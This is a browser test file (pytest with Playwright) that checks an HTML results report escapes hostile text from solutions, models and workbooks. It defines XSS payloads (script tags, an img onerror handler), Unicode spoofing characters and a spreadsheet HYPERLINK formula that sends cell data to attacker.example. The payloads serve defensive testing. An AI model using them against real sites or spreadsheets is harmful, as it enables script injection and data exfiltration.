"""Anything that a solution, a model or a workbook wrote is displayed as text, never interpreted."""

from __future__ import annotations

from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from judge.report.html import report_html
from tests.browser.conftest import Watched
from tests.browser.made_run import MadeCase, MadeTask, make_run, make_suite, workbook

pytestmark = pytest.mark.browser

SCRIPT = "<script>window.taken = true</script>"
IMAGE = "<img src=x onerror='window.taken = true'>"
ENDING = "</script></textarea></title>" + SCRIPT
RIGHT_TO_LEFT = "safe\u202egpj.exe"
ZERO_WIDTH = "pay\u200bpal"
LINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
CONTROL = "\x9b31mred\x85_x0007_"
LONG = "x" * 32_766 + "y"
MARKS = "{{ 7 * 7 }} ${7*7} &lt;b&gt; %0d%0a"
TEXTS = [SCRIPT, IMAGE, ENDING, RIGHT_TO_LEFT, ZERO_WIDTH, LINK, CONTROL, LONG, MARKS]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A report in which every text attempts an attack."""
    root = tmp_path_factory.mktemp("hostile")
    sheet = "<b>Data"
    cells = {f"B{row}": text for row, text in enumerate(TEXTS, start=2)}
    gold = dict.fromkeys(cells, "expected")
    made = MadeCase(
        workbook({"A1": IMAGE}, sheet), workbook(gold, sheet), workbook(cells, sheet), ENDING
    )
    fallen = MadeCase(
        made.before, made.gold, None, f"Traceback (most recent call last)\n{IMAGE}\x1b[2J\n"
    )
    task = MadeTask(
        "66-6",
        [made, fallen],
        position=f"'{sheet}'!B2:B{len(TEXTS) + 1}",
        instruction=f"{SCRIPT}{IMAGE}{RIGHT_TO_LEFT}\x00\x1b{ENDING}",
        solution=f"# {ENDING}\nprint({IMAGE!r})\n",
        record={
            "model": IMAGE,
            "setting": ENDING,
            "conversation": [SCRIPT + "\x07", ENDING, {"role": IMAGE, "content": IMAGE}],
        },
    )
    make_suite(root / "suite", [task])
    run = make_run(root / "results" / "<img src=x onerror=alert(1)>", root / "suite", [task])
    path = root / "report.html"
    path.write_bytes(report_html(run).encode("utf-8", "replace"))
    return path


def untouched(page: Page, path: Path, requests: list[str]) -> None:
    assert page.evaluate("window.taken") is None
    assert page.locator("img, iframe, object, embed, b b, main script").count() == 0
    assert {url.partition("#")[0] for url in requests} == {path.as_uri()}


def test_summary_and_list(watched: Watched, hostile: Path) -> None:
    page = watched.page
    page.goto(hostile.as_uri())
    expect(page.locator("h1").first).to_have_text("<img src=x onerror=alert(1)>")
    page.goto(f"{hostile.as_uri()}#/tasks")
    row = page.locator("#tasklist tr")
    expect(row).to_contain_text(SCRIPT)
    # What would turn the text around, or cannot be seen, is shown by name.
    expect(row.locator(".unseen").first).to_have_text("U+202E")
    untouched(page, hostile, watched.requests)


def test_task_page_shows_it_all_as_text(watched: Watched, hostile: Path) -> None:
    page = watched.page
    page.goto(f"{hostile.as_uri()}#/task/66-6?case=1")
    expect(page.locator(".grid")).to_be_visible()
    page.locator("#task details").evaluate_all("all => all.forEach((each) => each.open = true)")
    expect(page.locator(".instruction")).to_contain_text(ENDING)
    expect(page.locator("pre.code")).to_contain_text(ENDING)
    expect(page.locator(".turn").first).to_contain_text(f"{SCRIPT}␇")
    expect(page.locator(".turn").nth(1)).to_contain_text(ENDING)
    expect(page.locator("pre.console")).to_contain_text(ENDING)
    untouched(page, hostile, watched.requests)


def test_every_cell_is_text(watched: Watched, hostile: Path) -> None:
    page = watched.page
    page.goto(f"{hostile.as_uri()}#/task/66-6?case=1")
    output = page.locator(".pane[data-pane=output]")
    shown = page.locator(".cellinfo tr").nth(1)
    for row, text in enumerate(TEXTS, start=2):
        output.locator(f".row[aria-rowindex='{row}'] [data-c='1']").click()
        expect(page.locator(".cellinfo strong")).to_have_text(f"B{row}")
        if text is LONG:
            assert len(shown.locator(".value").first.inner_text()) == 32_767
        elif text is LINK:
            expect(shown.locator("code")).to_have_text(LINK)
        elif text is RIGHT_TO_LEFT:
            expect(shown).to_contain_text("safeU+202Egpj.exe")
        elif text is ZERO_WIDTH:
            expect(shown).to_contain_text("payU+200Bpal")
        elif text is CONTROL:
            expect(shown).to_contain_text("U+009B31mredU+0085_x0007_")
        else:
            expect(shown).to_contain_text(text)
    untouched(page, hostile, watched.requests)


def test_what_a_fallen_program_said(watched: Watched, hostile: Path) -> None:
    watched.page.goto(f"{hostile.as_uri()}#/task/66-6?case=2")
    expect(watched.page.locator(".cause")).to_contain_text(IMAGE)
    watched.page.get_by_text("stderr", exact=True).click()
    expect(watched.page.locator("pre.console")).to_contain_text(IMAGE)
    assert "\x1b" not in watched.page.locator("pre.console").inner_text()
    untouched(watched.page, hostile, watched.requests)
